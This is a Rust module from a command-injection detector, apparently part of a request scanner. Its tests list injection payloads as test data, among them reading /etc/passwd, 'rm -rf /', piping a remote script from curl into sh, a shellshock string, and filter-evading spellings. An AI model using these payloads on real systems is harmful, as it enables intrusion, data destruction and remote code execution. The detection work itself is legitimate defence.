//! Commands for a shell: a separator or a substitution that a value brings along, and a command behind it.
//!
//! A line of shell by itself is content (CI steps, chats, documentation). What counts is a value that is short before the
//! separator, as arguments are, and goes on with a program; and spellings that only hide a program's name.

mod line;
mod name;
mod programs;

use std::sync::LazyLock;

pub(super) use line::may_be as may_be_line;
use name::{behind_variables, hidden, program};
pub(super) use programs::SPELLED;
use programs::{PROGRAMS, WORDS};

use super::{
    Hit,
    class::Class,
    hints::Hints,
    needles::{self, Needles, Words},
    scan::Bits,
    text::{Shape, Source, Text, at, from, prose_words},
};

static SPELLINGS: Needles = LazyLock::new(|| needles::build(SPELLED));

/// Bytes of a value that are read. Overflow policy: what is behind is not.
const MAX_BYTES: usize = 1_024;

/// Separators of one value that are judged. Overflow policy: the first so many.
const MAX_SEPARATORS: usize = 48;

/// A command in this value.
pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    let hit = |confidence, why| Some(Hit::new(Class::CommandInjection, confidence, why));
    if text.is_content() {
        return None;
    }
    let lower = text.lower.get(..MAX_BYTES).unwrap_or(text.lower);
    let prose = text.shape == Shape::Prose;
    let kinds = Bits::SHELL
        .or(Bits::AMP)
        .or(Bits::BRACE)
        .or(Bits::QUOTE)
        .or(Bits::CONTROL)
        .or(Bits::ANGLE);
    if text.bits.any(kinds)
        && let Some(found) = separated(lower)
    {
        return hit(found.0, found.1);
    }
    if !prose && text.bits.any(Bits::QUOTE.or(Bits::BACKSLASH).or(Bits::BRACE)) && hidden(lower, 0) {
        return hit(0.85, "a program whose name is hidden from filters");
    }
    if text.bits.any(Bits::BRACE) && braced(lower) {
        return hit(0.85, "a command between braces");
    }
    let is_argument = matches!(text.source, Source::Query | Source::Body) && !text.in_document;
    if is_argument
        && !prose
        && let Some((confidence, why)) = line::detect(lower)
    {
        return hit(confidence, why);
    }
    let free = text.source == Source::FreeHeader;
    if !prose
        && text.hints.any(Hints::COMMAND)
        && let Some((_, start, _)) = needles::find(&SPELLINGS, lower)
        && (!free || start == 0 || lower.starts_with(b"()"))
        && prose_words(lower.get(..start).unwrap_or_default(), 3) < 3
    {
        return hit(0.8, "a spelling that only commands have");
    }
    None
}

/// A separator or substitution with a program behind it.
fn separated(lower: &[u8]) -> Option<(f32, &'static str)> {
    // Behind more words than these nothing separates an argument.
    let searched = lower.get(..=fourth_word(lower)).unwrap_or(lower);
    let mut judged = 0;
    let mut place = 0;
    while judged < MAX_SEPARATORS {
        place += from(searched, place)
            .iter()
            .position(|byte| may_separate(*byte))?;
        let (length, kind) = separator(from(lower, place));
        if length == 0 {
            place += 1;
            continue;
        }
        judged += 1;
        let behind = place + length;
        let blanks = from(lower, behind)
            .iter()
            .take_while(|byte| byte.is_ascii_whitespace() || matches!(**byte, b'(' | b'{'))
            .count();
        if is_argument(lower.get(..place).unwrap_or_default(), kind)
            && runs(lower, behind + blanks, kind, place)
        {
            return Some((
                if kind == Kind::Line { 0.7 } else { 0.85 },
                "a value goes on with a command",
            ));
        }
        place = behind;
    }
    None
}

/// Where the fourth word begins, or the end.
fn fourth_word(lower: &[u8]) -> usize {
    let mut words = 0;
    let mut is_blank = true;
    for (at, byte) in lower.iter().enumerate() {
        let was_blank = std::mem::replace(&mut is_blank, byte.is_ascii_whitespace());
        words += usize::from(was_blank && !is_blank);
        if words == 4 {
            return at;
        }
    }
    lower.len()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// `;`, `|`, `||`, `&&`.
    Separator,
    /// `&`, which queries and prose have, too.
    Ampersand,
    /// A line break.
    Line,
    /// `$(`, `<(`, `>(`.
    Substitution,
    /// A backtick: Markdown has them, too, behind a space.
    Backtick,
}

/// Whether a separator may begin with this byte.
const fn may_separate(byte: u8) -> bool {
    matches!(byte, b'$' | b'<' | b'>' | b'`' | b'|' | b'&' | b';' | b'\n')
}

fn separator(rest: &[u8]) -> (usize, Kind) {
    match rest {
        [b'$', b'(', b'(', ..] => (0, Kind::Substitution),
        [b'$' | b'<' | b'>', b'(', ..] => (2, Kind::Substitution),
        [b'$', b'{', ..] => (0, Kind::Substitution),
        [b'`', ..] => (1, Kind::Backtick),
        [b'|', b'|', ..] | [b'&', b'&', ..] | [b'|', b'&', ..] => (2, Kind::Separator),
        [b';' | b'|', ..] => (1, Kind::Separator),
        [b'&', ..] => (1, Kind::Ampersand),
        [b'\n', ..] => (1, Kind::Line),
        _ => (0, Kind::Separator),
    }
}

/// Whether what stands before a separator is an argument, not a sentence or a command line.
fn is_argument(before: &[u8], kind: Kind) -> bool {
    let words = before
        .split(|byte| byte.is_ascii_whitespace())
        .filter(|word| !word.is_empty())
        .count();
    let spaced = before.last().is_some_and(u8::is_ascii_whitespace);
    match kind {
        Kind::Backtick => words == 0 || !spaced && words <= 2,
        Kind::Substitution => words <= 2,
        Kind::Line => words <= 1,
        Kind::Separator | Kind::Ampersand => words <= 1 || prose_words(before, 2) < 1 && words <= 3,
    }
}

/// Whether a program begins here and goes on like one.
fn runs(lower: &[u8], start: usize, kind: Kind, separator: usize) -> bool {
    let start = behind_variables(lower, start);
    if hidden(lower, start) {
        return true;
    }
    let (word, end) = program(lower, start);
    if word.is_empty() {
        return false;
    }
    if kind == Kind::Separator && line::is_run(lower, &word, end) {
        return true;
    }
    let next = at(lower, end);
    let ends = matches!(
        next,
        0 | b';'
            | b'|'
            | b'&'
            | b'`'
            | b')'
            | b'\n'
            | b'\r'
            | b'>'
            | b'<'
            | b'#'
            | b'"'
            | b'\''
            | b'\\'
            | b'}'
    );
    if !ends && !next.is_ascii_whitespace() && next != b'$' && next != b'+' && next != b'{' && next != b'%' {
        return false;
    }
    let blanks = from(lower, end)
        .iter()
        .take_while(|byte| byte.is_ascii_whitespace() || **byte == b'+')
        .count();
    let argument = from(lower, end + blanks);
    let technical = matches!(
        argument.first(),
        Some(
            b'-' | b'/' | b'$' | b'%' | b'\\' | b'"' | b'\'' | b'>' | b'<' | b'.' | b'~' | b'*' | b'0'..=b'9'
        )
    ) || argument.starts_with(b"c:")
        || argument.starts_with(b"http");
    let known = |list: &Words| needles::is_one_of(list, &word);
    if known(&PROGRAMS) {
        // A short name after `&` in a query is a parameter: `&ls=1`.
        return kind != Kind::Line || ends || technical;
    }
    if !known(&WORDS) {
        return kind == Kind::Separator && is_any_program(lower, &word, start, separator, argument);
    }
    if kind == Kind::Line && !technical {
        return false;
    }
    if kind == Kind::Substitution && blanks > 0 && memchr::memchr(b')', argument).is_some() {
        return true;
    }
    let tight = separator == 0
        || !at(lower, separator - 1).is_ascii_whitespace()
        || at(lower, separator.saturating_sub(2)).is_ascii_digit();
    if technical {
        return kind != Kind::Ampersand || !argument.first().is_some_and(u8::is_ascii_digit) || tight;
    }
    // `|| id ||`, with nothing before.
    let between = separator == 0 && matches!(argument.first(), Some(b'|' | b'&' | b';' | b'#'));
    between || ends && (blanks == 0 || argument.is_empty()) && tight && kind != Kind::Ampersand
}

/// `;tool --option`: any name, right behind the separator, with an option or a file of the machine.
fn is_any_program(lower: &[u8], word: &[u8], start: usize, separator: usize, argument: &[u8]) -> bool {
    let tight = separator == 0 || !at(lower, separator - 1).is_ascii_whitespace();
    let touches = start > 0 && matches!(at(lower, start - 1), b';' | b'|' | b'&');
    let option = argument
        .strip_prefix(b"-")
        .map(|option| option.strip_prefix(b"-").unwrap_or(option));
    let has_option = option.is_some_and(|option| at(option, 0).is_ascii_lowercase());
    let has_file = [
        &b"/etc/"[..],
        b"/tmp/",
        b"/var/",
        b"/proc/",
        b"/dev/",
        b"/home/",
        b"/root/",
        b"/bin/",
        b"/usr/",
    ]
    .iter()
    .any(|root| argument.starts_with(root));
    if word == b"." && tight && has_file {
        return true;
    }
    let is_name = (2..=24).contains(&word.len()) && word.first().is_some_and(u8::is_ascii_lowercase);
    is_name && tight && (touches || separator == 0) && (has_option || has_file)
}

/// `{cat,/etc/x}`, `{id,}`, `c{a,oun}t`: what a shell expands to a command.
fn braced(lower: &[u8]) -> bool {
    let Some(open) = memchr::memchr(b'{', lower) else {
        return false;
    };
    let Some(close) = memchr::memchr(b'}', from(lower, open)) else {
        return false;
    };
    let inside = lower.get(open + 1..open + close).unwrap_or_default();
    let mut parts = inside.splitn(2, |byte| *byte == b',');
    let (Some(first), Some(second)) = (parts.next(), parts.next()) else {
        return false;
    };
    let program = |word: &[u8]| needles::is_one_of(&PROGRAMS, word) || needles::is_one_of(&WORDS, word);
    if first.is_empty() {
        return second.split(|byte| *byte == b',').next().is_some_and(program);
    }
    let argument = second.is_empty() || matches!(second.first(), Some(b'/' | b'-' | b'$' | b'~'));
    program(first) && argument
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_command(value: &str) -> bool {
        let lower = value.to_ascii_lowercase();
        detect(&Text::new(value.as_bytes(), lower.as_bytes(), Source::Query)).is_some()
    }

    #[test]
    fn commands_behind_a_value_are_found() {
        for value in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x && whoami",
            "; sleep 10",
            "$(id)",
            "`uname -a`",
            "a;c''at /x",
            "& ping -n 3 127.0.0.1 &",
            "x;/bin/ls -la",
            "|/usr/bin/id|",
            "a${IFS}b",
            "() { :;}; echo x",
            "x\nwget http://x.test/a",
            "file.txt;rm -rf /",
            "a & type %SYSTEMROOT%\\win.ini",
            "test`curl x.test`",
            "ti''me sh -c x",
            ";c\\at /e",
            "1;/???/c?t /x",
            ";$a cat $a $at x.txt",
            "{,ifconfig,eth0}",
            "|| id ||",
            "& id &",
            ";time id",
            "x;/usr/bin/env id",
            "&&net user",
            ";. /etc/profile",
            "$(which id)",
            "x --checkpoint-action=exec=id",
            ";for i in 1; do id; done",
            "curl http://x.test/a | sh",
            "%programfiles:~10,1%x",
        ] {
            assert!(is_command(value), "{value}");
        }
    }

    #[test]
    fn shell_as_content_is_not() {
        for value in [
            "R&D; time will tell",
            "cats & dogs",
            "AT&T",
            "Tom & Jerry; find them here",
            "npm run build && npm test",
            "run `cargo test` before you push",
            "please use `ls` to list files; then cat the output",
            "a; b; c",
            "Home | Find | Top",
            "https://example.test/?a=b&id=5&sort=date&cat=9",
            "text/html; charset=utf-8",
            "red|green|blue",
            "Smith & Sons; date unknown",
            "it costs $(100)",
            "x -> y | z",
            "f(x) = `x`",
            "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko",
            "curl -s https://example.test/install.sh",
            "q&a",
            "name\nfile",
            "5 > 3 && 2 < 4",
            "/api/*/items?x=*",
            "to do; time will tell; done",
            "this & that & more",
            "work || play",
            "lunch; time to go",
        ] {
            assert!(!is_command(value), "{value}");
        }
    }
}
